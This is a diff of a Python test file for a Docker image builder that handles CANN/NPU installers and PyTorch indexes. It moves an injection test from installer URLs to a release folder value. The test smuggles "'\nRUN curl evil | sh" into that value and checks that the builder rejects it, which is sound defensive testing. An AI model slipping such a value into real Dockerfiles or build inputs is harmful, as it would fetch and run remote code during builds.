@@ -20,7 +20,7 @@ from packaging.utils import canonicalize_name
 
 from builder import knowledge, python_env, vocabulary
 from builder.images import lock as locking
-from builder.images import conda_lock, matrix, plan, render
+from builder.images import conda_lock, facts, matrix, plan, render
 from builder.errors import UserError
 from tests.support.matrix import SHIPPED_DOCKERFILES, SHIPPED_MATRIX, write_cells
 
@@ -360,9 +360,9 @@ def test_knowledge_base_values_are_checked_again(demo, kb):
         def __getattr__(self, name):
             return getattr(kb, name)
 
-        def installers(self, cann, chip, arch, nnal=False):
-            first, *rest = kb.installers(cann, chip, arch)
-            return [dataclasses.replace(first, url=first.url + "'\nRUN curl evil | sh"), *rest]
+        def cann_release(self, cann):  # where the installers' URLs start
+            release = kb.cann_release(cann)
+            return dataclasses.replace(release, folder=release.folder + "'\nRUN curl evil | sh/")
 
     with pytest.raises(UserError, match="installer URL"):
         plan.plan(demo, Hostile(), "npu", DIGEST)
@@ -508,7 +508,7 @@ RUN --mount=type=secret,id=buildenv --mount=type=secret,id=ca \\
 {GUARD}
         echo "refusing to install numpy without a sha256 (pass --build-arg ASCEND_BUILD_ALLOW_UNVERIFIED=1 to allow it)" >&2; exit 1; \\
     fi && \\
-    torch_index="${{TORCH_INDEX:-{plan.PYTORCH_CPU_INDEX}}}" && \\
+    torch_index="${{TORCH_INDEX:-{facts.PYTORCH_CPU_INDEX}}}" && \\
     pip install --no-deps --find-links /wheelhouse ${{torch_index:+--extra-index-url "$torch_index"}} -r /tmp/lock.unverified.txt
 
 """
